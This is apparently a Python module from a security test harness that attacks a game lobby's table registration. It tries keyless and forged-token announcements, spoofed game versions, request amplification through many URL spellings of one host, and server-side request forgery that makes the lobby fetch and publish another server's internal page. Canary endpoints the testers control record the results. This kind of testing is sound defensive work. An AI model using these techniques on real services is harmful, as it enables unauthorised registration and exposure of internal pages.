"""Attacks on the lobby's table fleet: false and duplicate announcements."""

import asyncio
from typing import Any

from casino.attack.attack import attack
from casino.attack.attacks.reply import Depth
from casino.attack.bindings import Json
from casino.attack.canary import Canary, agent_card
from casino.attack.outcome import Outcome, by_admission, not_applicable, refused, succeeded
from casino.attack.target import Target, Try
from casino.errors import NoAnswer

_SKILL = "registerTable"
_SILENT = "the lobby drops the announcement when it is not renewed"
_SPELLINGS = 16
_MAX_VISITS = 5
"""Number of requests for its games that one process gets at most."""
_VERSION = "999.0.0"
_FRESH_S = 2.2
"""Seconds after which a lobby's cached list of games has expired."""


async def _announce(target: Target, request: Json) -> list[Try]:
    return await target.call_over_all(target.lobby, _SKILL, request, target.tokens("table"))


@attack("fleet", "C6", "27-H5", breaks=_SILENT)
async def announce_table(target: Target) -> Outcome:
    """Announce a table to the lobby without its key, to get the next room."""
    canary = await target.new_canary()
    return by_admission(await _announce(target, {"agentCardUrl": canary.card_url}), _SILENT)


@attack("fleet", "C6", breaks=_SILENT)
async def claim_moved_table(target: Target) -> Outcome:
    """Announce without its key that a room's table has moved to the attacker's address."""
    if not target.tables:
        return not_applicable("no room has a table that may be attacked")
    tries: list[Try] = []
    for _table, room in target.tables[:1]:
        canary = await target.new_canary()
        for token in (None, "0" * 64):
            request = {
                "agentCardUrl": canary.card_url,
                "tableId": room.table_id,
                "epoch": room.epoch,
            }
            if token:
                request["roomToken"] = token
            tries += await _announce(target, request)
        await asyncio.sleep(0.3)
        calls = sum(visit.method == "POST" for visit in canary.visits)
        if calls:
            return succeeded(f"the lobby called the attacker's table {calls} times; {_SILENT}")
    if any(try_.reply.depth is Depth.ANSWERED for try_ in tries):
        return refused("the announcement was accepted, but the lobby kept its own table")
    return by_admission(tries)


@attack("fleet", "H11", breaks=_SILENT)
async def offer_newer_game(target: Target) -> Outcome:
    """Replace a game's rules by announcing a table with a newer version."""
    canary = await target.new_canary()
    canary.card = _card_with_game(canary, "kuhn_poker", "/games/kuhn_poker/spec")
    tries = await _announce(target, {"agentCardUrl": canary.card_url})
    games = (await _games(target, tries)).get("games", [])
    if any(game.get("specVersion") == _VERSION for game in games):
        return succeeded(f"the lobby now offers kuhn_poker {_VERSION}; {_SILENT}")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused("the announcement was accepted, but its game is not offered")
    return by_admission(tries)


@attack("fleet", "H9", breaks=_SILENT)
async def multiply_requests(target: Target) -> Outcome:
    """Make the lobby send many requests to one address, announced under many names."""
    canary = await target.new_canary()
    host = canary.url.removeprefix("http://")
    names = [f"http://u{number}@{host}/.well-known/agent-card.json" for number in range(_SPELLINGS)]
    tries = await asyncio.gather(
        *(target.call(target.lobby, _SKILL, {"agentCardUrl": name}) for name in names)
    )
    await _games(target, tries)
    if canary.visited() > _MAX_VISITS:
        return succeeded(f"one request to the lobby caused {canary.visited()} to one address")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused(f"{_SPELLINGS} announcements caused {canary.visited()} requests")
    return by_admission(tries, is_faulty=True)


@attack("outgoing", "C7", breaks=_SILENT)
async def read_page_as_specification(target: Target) -> Outcome:
    """Make the lobby fetch another server's page as a game's specification, and publish it."""
    canary, inside = await target.new_canary(), await target.new_canary()
    page = f"# {inside.word}".encode()
    inside.pages["/internal"] = Canary.page(page)
    canary.card = _card_with_game(canary, "mallory_game", inside.url + "/internal")
    tries = await _announce(target, {"agentCardUrl": canary.card_url})
    await _games(target, tries)
    try:
        answer = await target.traffic.send(
            "GET", f"{target.lobby.base}/api/games/mallory_game/spec"
        )
        body = answer.body
    except NoAnswer:
        body = b""
    if inside.word.encode() in body:
        return succeeded(f"the lobby published the page of another server; {_SILENT}")
    if inside.visits:
        return succeeded(f"the lobby fetched a page of another server; {_SILENT}")
    if any(try_.reply.was_let_in for try_ in tries):
        return refused("the announcement was accepted, but the page was not fetched")
    return by_admission(tries)


def _card_with_game(canary: Canary, game_type: str, specification: str) -> dict[str, Any]:
    game = {
        "gameType": game_type,
        "name": "Mallory's",
        "category": "card",
        "gameModel": "turn_based",
        "players": {"min": 2, "max": 2},
        "version": _VERSION,
        "defaultTimeoutAction": "FOLD",
        "schemaFormat": "json-schema",
        "specification": specification,
    }
    return agent_card(canary.url, "Canary", ("configureTable",), {"games": [game]})


async def _games(target: Target, tries: list[Try]) -> Json:
    """Return the lobby's list of games after an announcement has taken effect."""
    if any(try_.reply.was_let_in for try_ in tries):
        await asyncio.sleep(_FRESH_S)
    games = (await target.rest("GET", "/api/games")).data
    return games if isinstance(games, dict) else {}
